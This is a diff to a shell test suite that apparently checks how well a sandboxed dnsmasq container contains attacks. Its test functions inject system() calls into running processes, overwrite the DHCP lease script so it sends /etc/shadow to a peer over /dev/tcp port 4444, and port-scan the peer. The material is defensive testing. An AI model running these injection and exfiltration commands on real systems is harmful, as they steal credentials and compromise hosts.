@@ -22,12 +22,12 @@ image_prepare() {
 	echo 'dnsmasq:x:101:65534:dnsmasq,,,:/var/lib/misc:/usr/sbin/nologin' >>"$tree/etc/passwd"
 	mkdir -p "$tree"/etc/dnsmasq.d "$tree"/var/log/dnsmasq "$tree"/var/lib/misc/hosts.d "$tree"/usr/local/sbin
 	chown 101:65534 "$tree"/var/log/dnsmasq "$tree"/var/lib/misc "$tree"/var/lib/misc/hosts.d
-	cat >"$tree/etc/dnsmasq.conf" <<-CONF
-	listen-address=127.0.0.1,$own_address
+	cat >"$tree/etc/dnsmasq.conf" <<-'CONF'
+	listen-address=127.0.0.1,10.88.0.2
 	bind-interfaces
 	no-resolv
-	server=$peer_address#5353
-	server=/peer.example/$peer_address
+	server=10.88.0.1#5353
+	server=/peer.example/10.88.0.1
 	servers-file=/etc/dnsmasq.servers
 	domain=local.example
 	local=/local.example/
@@ -46,8 +46,8 @@ image_prepare() {
 	log-facility=/var/log/dnsmasq/dnsmasq.log
 	dhcp-range=10.88.0.100,10.88.0.180,255.255.255.0,2m
 	dhcp-host=02:00:00:00:00:01,10.88.0.101,printer
-	dhcp-option=option:router,$peer_address
-	dhcp-option=option:ntp-server,$peer_address
+	dhcp-option=option:router,10.88.0.1
+	dhcp-option=option:ntp-server,10.88.0.1
 	dhcp-boot=pxelinux.0
 	dhcp-script=/usr/local/sbin/lease-event
 	enable-tftp
@@ -57,7 +57,7 @@ image_prepare() {
 		printf '10.88.1.%d host%d\n' "$i" "$i"
 	done >"$tree/etc/dnsmasq.hosts"
 	printf '10.88.1.250 gateway\n10.88.1.251 mail\n' >>"$tree/etc/dnsmasq.hosts"
-	printf 'server=/lab.example/%s#5353\n' "$peer_address" >"$tree/etc/dnsmasq.servers"
+	echo server=/lab.example/10.88.0.1#5353 >"$tree/etc/dnsmasq.servers"
 	for i in $(seq 400); do
 		printf 'address=/ad%d.block.example/0.0.0.0\n' "$i"
 	done >"$tree/etc/dnsmasq.d/block"
@@ -264,7 +264,7 @@ attack_code_shell() {
 	harm exec /usr/bin/id
 	harm write /tmp/out
 	inject_pid "${container_pid[dnsmasq]}" 'call (int) system("id >/tmp/out; cat /etc/passwd >>/tmp/out")'
-	grep -q 'uid=101' "/proc/${container_pid[dnsmasq]}/root/tmp/out"
+	grep -q 'uid=101' "$(image_path dnsmasq /tmp/out)"
 }
 
 # Code inside the root process: it reads what only root may, and starts no program.
@@ -279,8 +279,11 @@ attack_script_replaced() {
 	harm read /etc/shadow
 	harm connect "$peer_address:4444"
 	thief_begin
-	inject_pid "$(script_process)" "call (int) system(\"(echo '#!/bin/bash'; echo '(echo \$*; cat /etc/shadow) \
->/dev/tcp/$peer_address/4444') >/usr/local/sbin/lease-event\")"
+	cat >"$(image_path dnsmasq /tmp/event)" <<-SCRIPT
+	#!/bin/bash
+	(echo "\$@"; cat /etc/shadow) >/dev/tcp/$peer_address/4444
+	SCRIPT
+	inject_pid "$(script_process)" 'call (int) system("cat /tmp/event >/usr/local/sbin/lease-event")'
 	dhcp lease 90
 	thief_got '^root:'
 }
@@ -305,7 +308,7 @@ attack_scan() {
 	harm connect "$peer_address:5432"
 	machine_runs "bash -c 'for p in 21 22 23 25 80 443 3306 5353 5432 6379; do
 echo >/dev/tcp/$peer_address/\$p && echo open \$p; done >/tmp/ports 2>&1'"
-	until_true 20 grep -q 'open 5353' "/proc/${container_pid[dnsmasq]}/root/tmp/ports"
+	until_true 20 grep -q 'open 5353' "$(image_path dnsmasq /tmp/ports)"
 }
 
 # Names carry a stolen file to the thief's name server, over the resolver that the container has.
